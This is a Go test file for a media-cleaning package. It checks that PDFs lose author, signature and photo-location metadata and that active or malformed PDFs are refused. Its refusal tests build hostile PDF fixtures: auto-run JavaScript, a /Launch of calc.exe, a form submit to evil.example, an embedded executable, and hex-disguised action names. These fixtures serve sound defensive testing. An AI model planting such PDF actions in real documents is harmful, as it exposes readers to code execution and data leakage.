package media_test

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"

	"kinward/hooks/media"
)

// pdf writes a document from its objects, the first of which is its catalog.
func pdf(trailer string, objects ...string) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	places := make([]int, len(objects))
	for i, object := range objects {
		places[i] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	start := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, at := range places {
		fmt.Fprintf(&out, "%010d 00000 n \n", at)
	}
	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
	return out.Bytes()
}

func stream(dict, content string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(content), content)
}

// leaflet is a document of one page, with more in its catalog and on its page.
func leaflet(catalog, page string, more ...string) []byte {
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R " + catalog + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /LastModified (D:20240101000000Z) " + page + " >>",
		stream("", "0 0 100 100 re f % drawn"),
		stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">secret author</x:xmpmeta>"),
		"<< /Author (secret author) /Title (secret title) /Producer (secret program) /CreationDate (D:20240101000000Z) >>",
	}
	return pdf("/Info 6 0 R", append(objects, more...)...)
}

func TestDocumentsLoseTheirAuthor(t *testing.T) {
	c := mustClean(t, leaflet("", ""))
	out := opened(c.out)
	tellsNothing(t, "the document", out)
	for _, said := range []string{"2024", "LastModified", "xmpmeta"} {
		if bytes.Contains(out, []byte(said)) {
			t.Errorf("the document still says %q", said)
		}
	}
	if c.Kind != media.Document || c.Type != "application/pdf" || !bytes.HasPrefix(c.out, []byte("%PDF-")) {
		t.Errorf("it is %+v", c.Cleaned)
	}
	if again := mustClean(t, c.out); !bytes.HasPrefix(again.out, []byte("%PDF-")) {
		t.Error("what came out is no document")
	}
	// An earlier version stays in a file that was changed: here the page was drawn otherwise before.
	first := leaflet("", "")
	changed := append(first, strings.Replace(string(leaflet("", "")), "% drawn", "% again", 1)[9:]...)
	if c, err := clean(changed); err == nil && bytes.Contains(opened(c.out), []byte("secret")) {
		t.Error("the earlier version tells")
	}
}

// opened is a document with what is packed in it: small parts lie together in streams.
func opened(content []byte) []byte {
	all := slices.Clone(content)
	for rest := content; ; {
		_, after, found := bytes.Cut(rest, []byte("stream"))
		if !found {
			return all
		}
		rest = after
		if from, err := zlib.NewReader(bytes.NewReader(bytes.TrimLeft(after, "\r\n"))); err == nil {
			text, _ := io.ReadAll(from) // as far as it goes
			all = append(all, text...)
		}
	}
}

// TestNotesInDocumentsLoseTheirAuthors: who wrote a note and who signed is gone; what the note says and what a field is called stay.
func TestNotesInDocumentsLoseTheirAuthors(t *testing.T) {
	note := "/Type /Annot /Rect [0 0 9 9] /T (secret author) /NM (secret name) /M (D:20240101000000Z) /CreationDate (D:20240101000000Z)"
	for name, content := range map[string][]byte{
		"a note":               leaflet("", "/Annots [7 0 R]", "<< "+note+" /Subtype /Text /Contents (Take it at noon) /Subj (noon) /Popup 8 0 R >>", "<< "+note+" /Subtype /Popup /Parent 7 0 R >>"),
		"a highlight":          leaflet("", "/Annots [<< "+note+" /Subtype /Highlight /QuadPoints [0 0 9 0 9 9 0 9] /Contents (Take it at noon) >>]"),
		"a field that is full": leaflet("/AcroForm << /Fields [7 0 R] >>", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Widget /FT /Tx /DA (/Helv 9 Tf) /T (Take it at noon) /V (x) /Rect [0 0 9 9] /NM (secret) /M (D:20240101000000Z) >>"),
		"a signature": leaflet("/AcroForm << /Fields [7 0 R] /SigFlags 3 >> /Perms << /DocMDP 8 0 R >>", "/Annots [7 0 R]",
			"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Take it at noon) /V 8 0 R /Rect [0 0 9 9] >>",
			"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3] /Contents <736563726574> /Name (secret name) /Location (secret place) /Reason (secret) /M (D:20240101000000Z) >>"),
		"a layer": leaflet("/OCProperties << /OCGs [7 0 R] /D << /Order [7 0 R] >> >>", "",
			"<< /Type /OCG /Name (Take it at noon) /Usage << /CreatorInfo << /Creator (secret program) /Subtype /Artwork >> /User << /Type /Ind /Name (secret name) >> >> >>"),
	} {
		c, err := clean(content)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		out := opened(c.out)
		tellsNothing(t, name, out)
		if bytes.Contains(out, []byte("2024")) || bytes.Contains(out, []byte("736563726574")) {
			t.Errorf("%s says when, or holds the signature", name)
		}
		if !bytes.Contains(out, []byte("Take it at noon")) {
			t.Errorf("%s lost what it says", name)
		}
		if again := mustClean(t, c.out); !bytes.Contains(opened(again.out), []byte("Take it at noon")) {
			t.Errorf("%s: cleaned twice it lost what it says", name)
		}
	}
}

func TestDocumentsThatActAreRefused(t *testing.T) {
	for name, content := range map[string][]byte{
		"a program at the start": leaflet("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", ""),
		"a program by its name":  leaflet("/Names << /JavaScript << /Names [(x) 7 0 R] >> >>", "", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
		"one that starts others": leaflet("/OpenAction << /S /Launch /F (calc.exe) >>", ""),
		"one that sends":         leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>"),
		"another file":           leaflet("/Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >>", "", "<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>", stream("/Type /EmbeddedFile", "MZ")),
		"a name elsewhere":       leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "/Launch"),
		"a name that is nowhere": leaflet("/OpenAction << /S 99 0 R /F (calc.exe) >>", ""),
		"a name in disguise":     leaflet("/OpenAction << /#53 /L#61unch /F (calc.exe) >>", ""),
		"what the page does":     leaflet("", "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
	} {
		if _, err := clean(content); !errors.Is(err, media.Acting) {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, content := range map[string][]byte{ // these are no documents to begin with
		"a name further away": leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "8 0 R", "/Launch"),
		"a name of no name":   leaflet("/OpenAction << /S 7 0 R /F (calc.exe) >>", "", "(Launch)"),
		"a key in disguise":   leaflet("/OpenAction << /S 7 0 R /#4a#53 (app.alert\\(1\\)) >>", "", "/URI"),
	} {
		if _, err := clean(content); !errors.Is(err, media.Acting) && !errors.Is(err, media.Damaged) {
			t.Errorf("%s: %v", name, err)
		}
	}
	if c := mustClean(t, leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>")); !bytes.Contains(c.out, []byte("%PDF")) {
		t.Error("a link is no action")
	}
	c := mustClean(t, leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 8 0 R /URI (https://example.org) >> >>", "/URI"))
	if again := mustClean(t, c.out); !bytes.HasPrefix(again.out, []byte("%PDF-")) {
		t.Error("a link whose kind stands elsewhere is no action either")
	}
	if _, err := clean(leaflet("", "", "<< /URL (https://example.org) /S 8 0 R >>", "<< /G 9 0 R >>", "<< /AH 0 >>")); err != nil {
		t.Errorf("pages that were taken from the web: %v", err)
	}
}

func TestDocumentsThatCannotBeRead(t *testing.T) {
	whole := leaflet("", "")
	for name, c := range map[string]struct {
		content []byte
		want    error
	}{
		"only a head": {whole[:9], media.Damaged},
		"no page":     {pdf("", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"), nil},
		"a password": {pdf("/Encrypt 3 0 R /ID [<00> <00>]", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>",
			"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <"+strings.Repeat("ab", 32)+"> /U <"+strings.Repeat("cd", 32)+"> >>"), media.Locked},
		"words": {[]byte("%PDF-1.7 this is a letter, not a document"), media.Damaged},
	} {
		_, err := clean(c.content)
		if err == nil || c.want != nil && !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", name, err, c.want)
		}
	}
	for at := 20; at < len(whole)-30; at += 61 {
		if c, err := clean(whole[:at]); err == nil && bytes.Contains(c.out, []byte("secret")) {
			t.Errorf("cut after %d bytes it still tells", at)
		}
	}
}

// TestPhotographsInDocumentsLoseWhereTheyWereTaken: the dots stay as they are, to the last byte.
func TestPhotographsInDocumentsLoseWhereTheyWereTaken(t *testing.T) {
	plain := asJPEG(t, halves(80, 40))
	adobe := segment(0xee, "Adobe\x00\x64\x00\x00\x00\x00\x01", "secret")
	jfif := segment(0xe0, "JFIF\x00\x01\x02\x00\x00\x01\x00\x01\x01\x01", "sec")
	noted := append(withSegments(plain, jfif, segment(0xe1, "Exif\x00\x00", string(exif(6))), segment(0xe2, "ICC_PROFILE\x00\x01\x01secret"),
		segment(0xed, "Photoshop 3.0\x00secret"), adobe, segment(0xfe, "secret comment")), "secret GPS behind the end"...)
	bare := withSegments(plain, segment(0xe0, "JFIF\x00\x01\x02\x00\x00\x01\x00\x01\x00\x00"), segment(0xee, "Adobe\x00\x64\x00\x00\x00\x00\x01"))
	var packed bytes.Buffer
	to := zlib.NewWriter(&packed)
	_, _ = to.Write(noted)
	_ = to.Close()
	image := "/Type /XObject /Subtype /Image /Width 80 /Height 40 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
	for name, object := range map[string]string{"as it is": stream(image+"/Filter /DCTDecode", string(noted)), "in a list": stream(image+"/Filter [/DCTDecode]", string(noted)),
		"packed once more": stream(image+"/Filter [/FlateDecode /DCTDecode]", packed.String())} {
		c := mustClean(t, leaflet("", "/Resources << /XObject << /Im 7 0 R >> >>", object))
		tellsNothing(t, name, c.out)
		if !bytes.Contains(c.out, bare) {
			t.Errorf("%s: its dots are others", name)
		}
		if again := mustClean(t, c.out); !bytes.Contains(again.out, bare) {
			t.Errorf("%s: cleaned twice they are others", name)
		}
	}
	half := withSegments(plain[:len(plain)-20], segment(0xe1, "Exif\x00\x00", string(exif(6))))
	for name, content := range map[string]string{"cut off": string(half), "cut off in its notes": string(noted[:60])} {
		if c, err := clean(leaflet("", "/Resources << /XObject << /Im 7 0 R >> >>", stream(image+"/Filter /DCTDecode", content))); err == nil {
			tellsNothing(t, name, c.out)
		}
	}
	for name, object := range map[string]string{"no JPEG": stream(image+"/Filter /DCTDecode", "secret"), "packed wrongly": stream(image+"/Filter [/DCTDecode /FlateDecode]", string(noted))} {
		if c, err := clean(leaflet("", "/Resources << /XObject << /Im 7 0 R >> >>", object)); err == nil {
			t.Errorf("%s was taken: %d bytes", name, len(c.out))
		}
	}
}

// nested is a document whose one page lies this deep in groups of pages.
func nested(depth int, more ...string) []byte {
	objects := []string{"<< /Type /Catalog /Pages 2 0 R >>"}
	for i := range depth {
		parent := ""
		if i > 0 {
			parent = fmt.Sprintf("/Parent %d 0 R", i+1)
		}
		objects = append(objects, fmt.Sprintf("<< /Type /Pages %s /Kids [%d 0 R] /Count 1 >>", parent, i+3))
	}
	page := fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] /Resources << >> >>", depth+1)
	return pdf("", append(append(objects, page), more...)...)
}

func TestDocumentsThatLieDeepOrAreInPiecesAreRefused(t *testing.T) {
	if c := mustClean(t, nested(40)); c.Kind != media.Document {
		t.Errorf("forty deep it is %+v", c.Cleaned)
	}
	circle := pdf("", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1 >>")
	for name, content := range map[string][]byte{"deep": nested(100), "deeper": nested(20_000), "of many pieces": nested(1, slices.Repeat([]string{"<< /A /B >>"}, 50_001)...), "a circle": circle} {
		if _, err := clean(content); !errors.Is(err, media.Unusual) && !errors.Is(err, media.Damaged) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestDocumentsOfManyPartsAreRefusedCheaply(t *testing.T) {
	content := nested(1, slices.Repeat([]string{"<</A/B>>"}, 100_001)...)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := clean(content)
	runtime.ReadMemStats(&after)
	if took := after.TotalAlloc - before.TotalAlloc; !errors.Is(err, media.Unusual) || took > 4<<20 {
		t.Errorf("%v, with %d kB", err, took>>10)
	}
}

// A document that was cut off within an object is refused, since what is left of it could not be opened once it is written.
func TestADocumentThatWasCutOffIsRefused(t *testing.T) {
	whole := leaflet("", "")
	at := 0
	for range 3 {
		at += bytes.Index(whole[at:], []byte("endobj\n")) + len("endobj\n")
	}
	for _, cut := range [][]byte{append(slices.Clone(whole[:at]), "B "...), whole[:at], whole[:len(whole)/2]} {
		if c, err := clean(cut); err == nil {
			if _, err := clean(c.out); err != nil {
				t.Errorf("what is left of %q is taken, and what came out is refused: %v", cut[max(0, len(cut)-20):], err)
			}
		}
	}
	if _, err := clean(append(slices.Clone(whole[:at]), "B "...)); !errors.Is(err, media.Damaged) {
		t.Errorf("cut off within an object: %v", err)
	}
}
